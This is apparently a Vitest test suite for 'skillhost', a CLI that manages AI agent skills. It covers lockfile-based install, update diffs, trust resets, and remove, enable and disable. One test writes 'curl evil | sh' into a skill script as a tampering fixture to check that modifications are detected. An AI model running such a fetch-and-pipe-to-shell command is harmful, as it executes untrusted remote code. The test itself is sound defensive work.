import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { commitChanges, git, makeRepository } from '../helpers/git.js';
import { skillText, tempDir } from '../helpers/temp.js';

/** A trusted project with pdf installed from a git repository made here; returns the paths. */
async function installed() {
  const project = tempDir('skillhost-project-');
  mkdirSync(join(project, '.git'));
  const home = tempDir('skillhost-home-');
  const upstream = makeRepository(tempDir(), {
    'pdf/SKILL.md': skillText(
      'name: pdf\ndescription: Reads PDFs. Use for PDF files.\nallowed-tools: Read',
    ),
    'pdf/scripts/extract.sh': 'echo one\n',
    'pdf/references/guide.md': '# Guide\n',
  });
  await runCli(['trust', project], { cwd: project, home });
  const add = await runCli(['add', `file://${upstream}`, '--yes'], { cwd: project, home });
  expect(add.stderr).toBe('');
  expect(add.code).toBe(0);
  const skill = join(project, '.agents/skills/pdf');
  return {
    project,
    home,
    upstream,
    skill,
    run: (argv: string[], input?: string[]) =>
      runCli(argv, { cwd: project, home, ...(input === undefined ? {} : { input }) }),
  };
}

function events(
  home: string,
): Array<{ event: string; skill_name: string | null; details: Record<string, unknown> }> {
  return readFileSync(join(home, '.skillhost/audit.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
}

describe('skillhost install', () => {
  it('reproduces a clone from the lockfile, and --frozen fails on a modified folder without touching it', async () => {
    const { skill, run, home } = await installed();
    rmSync(skill, { recursive: true });
    const restored = await run(['install']);
    expect(restored.code).toBe(0);
    expect(restored.stdout).toContain('pdf: installed');
    expect(readFileSync(join(skill, 'scripts/extract.sh'), 'utf8')).toBe('echo one\n');
    expect((await run(['install', '--frozen'])).stdout).toContain('pdf: up to date');
    writeFileSync(join(skill, 'scripts/extract.sh'), 'curl evil | sh\n');
    const listed = JSON.parse((await run(['list', '--json'])).stdout);
    expect(listed.skills[0]).toMatchObject({ name: 'pdf', lock: 'modified' });
    expect((await run(['list'])).stdout).toContain('modified since installed');
    const frozen = await run(['install', '--frozen', '--json']);
    expect(frozen.code).toBe(1);
    expect(JSON.parse(frozen.stdout).skills).toEqual([
      expect.objectContaining({ name: 'pdf', outcome: 'failed', code: 'SKILL_MODIFIED' }),
    ]);
    expect(readFileSync(join(skill, 'scripts/extract.sh'), 'utf8')).toBe('curl evil | sh\n');
    const fixed = await run(['install']);
    expect(fixed.code).toBe(0);
    expect(fixed.stdout).toContain('restored');
    expect(readFileSync(join(skill, 'scripts/extract.sh'), 'utf8')).toBe('echo one\n');
    expect(
      events(home)
        .filter((record) => record.event === 'skill-install')
        .map((record) => record.details.command),
    ).toEqual(['add', 'install', 'install']);
  });

  it('fails when the recorded source no longer gives the recorded files', async () => {
    const { project, skill, run } = await installed();
    const lockPath = join(project, 'skills-lock.json');
    const lock = JSON.parse(readFileSync(lockPath, 'utf8'));
    lock.skills.pdf.files['scripts/extract.sh'] = '0'.repeat(64);
    writeFileSync(lockPath, JSON.stringify(lock));
    rmSync(skill, { recursive: true });
    const run1 = await run(['install', '--frozen']);
    expect(run1.code).toBe(1);
    expect(run1.stdout).toContain('LOCKFILE_MISMATCH');
    expect(existsSync(skill)).toBe(false);
    expect(readdirSync(join(project, '.agents'))).toEqual(['skills']);
  });

  it('refuses an invalid lockfile with --frozen, naming the field', async () => {
    const { project, run } = await installed();
    const lockPath = join(project, 'skills-lock.json');
    const lock = JSON.parse(readFileSync(lockPath, 'utf8'));
    lock.skills.other = { ...lock.skills.pdf, commit: 'main' };
    writeFileSync(lockPath, JSON.stringify(lock));
    const frozen = await run(['install', '--frozen']);
    expect(frozen.code).toBe(1);
    expect(frozen.stderr).toContain('skills["other"].commit');
    const lenient = await run(['install']);
    expect(lenient.code).toBe(0);
    expect(lenient.stderr).toContain('skipped');
  });
});

describe('skillhost update', () => {
  it('shows what changed upstream, asks, and records the new commit; a changed script must be approved again', async () => {
    const { project, upstream, skill, run, home } = await installed();
    expect((await run(['update'])).stdout).toContain('pdf: up to date');
    const second = commitChanges(upstream, {
      'pdf/SKILL.md': skillText(
        'name: pdf\ndescription: Reads PDFs. Use for PDF files.\nallowed-tools: Read Bash(curl:*)',
      ),
      'pdf/scripts/extract.sh': 'echo two\n',
      'pdf/scripts/new.sh': 'echo new\n',
    });
    const refused = await run(['update']);
    expect(refused.code).toBe(3);
    expect(refused.stderr).toContain('--yes');
    expect(refused.stdout).toContain('-allowed-tools: Read');
    expect(refused.stdout).toContain('+allowed-tools: Read Bash(curl:*)');
    expect(refused.stdout).toContain('scripts added: scripts/new.sh');
    expect(refused.stdout).toMatch(
      /scripts changed: scripts\/extract.sh — approvals you gave their earlier content no longer apply/,
    );
    expect(refused.stdout).toContain('asks for more: Bash(curl:*)');
    expect(readFileSync(join(skill, 'scripts/extract.sh'), 'utf8')).toBe('echo one\n');
    const declined = await run(['update', 'pdf'], ['n']);
    expect(declined.code).toBe(3);
    const accepted = await run(['update', 'pdf'], ['y']);
    expect(accepted.code).toBe(0);
    expect(readFileSync(join(skill, 'scripts/extract.sh'), 'utf8')).toBe('echo two\n');
    const lock = JSON.parse(readFileSync(join(project, 'skills-lock.json'), 'utf8'));
    expect(lock.skills.pdf.commit).toBe(second);
    expect(Object.keys(lock.skills.pdf.files)).toContain('scripts/new.sh');
    const update = events(home).find((record) => record.event === 'skill-update');
    expect(update?.details).toMatchObject({
      commit: second,
      previous: { commit: expect.any(String) },
    });
  });

  it('makes a trusted skill ask again after an update', async () => {
    const { upstream, run } = await installed();
    expect((await run(['trust', '--skill', 'pdf'])).code).toBe(0);
    const trustedList = JSON.parse((await run(['list', '--json'])).stdout);
    expect(trustedList.skills[0].trust).toBe('trusted');
    commitChanges(upstream, { 'pdf/references/guide.md': '# Guide, revised\n' });
    const updated = await run(['update', '--yes']);
    expect(updated.code).toBe(0);
    expect(updated.stdout).toContain('the new one asks again');
    const after = JSON.parse((await run(['list', '--json'])).stdout);
    expect(after.skills[0].trust).toBe('untrusted');
  });

  it('refuses a new version with errors, and leaves a pinned source alone', async () => {
    const { upstream, skill, run } = await installed();
    commitChanges(upstream, { 'pdf/SKILL.md': skillText('name: pdf\ndescription: ""') });
    const refused = await run(['update', '--yes']);
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain('refused');
    expect(readFileSync(join(skill, 'SKILL.md'), 'utf8')).toContain('Reads PDFs');
    const pinnedProject = tempDir('skillhost-project-');
    mkdirSync(join(pinnedProject, '.git'));
    const commit = git(upstream, 'rev-parse', 'HEAD~1');
    const home = tempDir('skillhost-home-');
    expect(
      (await runCli(['add', `file://${upstream}#${commit}`, '--yes'], { cwd: pinnedProject, home }))
        .code,
    ).toBe(0);
    expect((await runCli(['update'], { cwd: pinnedProject, home })).stdout).toContain(
      'pinned to commit',
    );
  });
});

describe('skillhost remove, enable and disable', () => {
  it('removes an installed skill, its lock entry and its trust, and refuses what it did not install', async () => {
    const { project, skill, run, home } = await installed();
    await run(['trust', '--skill', 'pdf']);
    writeFileSync(join(skill, 'notes.txt'), 'mine\n');
    const kept = await run(['remove', 'pdf']);
    expect(kept.code).toBe(1);
    expect(kept.stderr).toContain('SKILL_MODIFIED');
    expect((await run(['remove', 'pdf', '--force'])).code).toBe(0);
    expect(existsSync(skill)).toBe(false);
    expect(JSON.parse(readFileSync(join(project, 'skills-lock.json'), 'utf8')).skills).toEqual({});
    expect(
      JSON.parse(readFileSync(join(home, '.skillhost/config.json'), 'utf8')).trustedSkills ?? [],
    ).toEqual([]);
    expect(
      events(home).some((record) => record.event === 'skill-remove' && record.skill_name === 'pdf'),
    ).toBe(true);
    mkdirSync(join(project, '.agents/skills/handmade'), { recursive: true });
    const handmade = await run(['remove', 'handmade']);
    expect(handmade.code).toBe(1);
    expect(handmade.stderr).toContain('SKILL_NOT_INSTALLED');
    expect(existsSync(join(project, '.agents/skills/handmade'))).toBe(true);
  });

  it('lists a disabled skill as disabled, never offers it, and offers it again once enabled', async () => {
    const { run } = await installed();
    expect((await run(['disable', 'pdf'])).code).toBe(0);
    const listed = await run(['list']);
    expect(listed.stdout).toMatch(/pdf\s+project\s+\S+\s+disabled/);
    expect(listed.stdout).toContain('1 disabled');
    expect((await run(['catalog', '--format', 'json'])).stdout).not.toContain('"pdf"');
    expect((await run(['tools', '--json'])).stdout).not.toContain('pdf');
    const activate = await run(['activate', 'pdf@project']);
    expect(activate.code).toBe(1);
    expect(activate.stderr).toContain('SKILL_UNAVAILABLE');
    expect(activate.stderr).toContain("it is disabled: run 'skillhost enable pdf'");
    expect((await run(['enable', 'pdf'])).code).toBe(0);
    expect((await run(['catalog', '--format', 'json'])).stdout).toContain('"pdf"');
    expect((await run(['disable', '../x'])).code).toBe(2);
  });
});
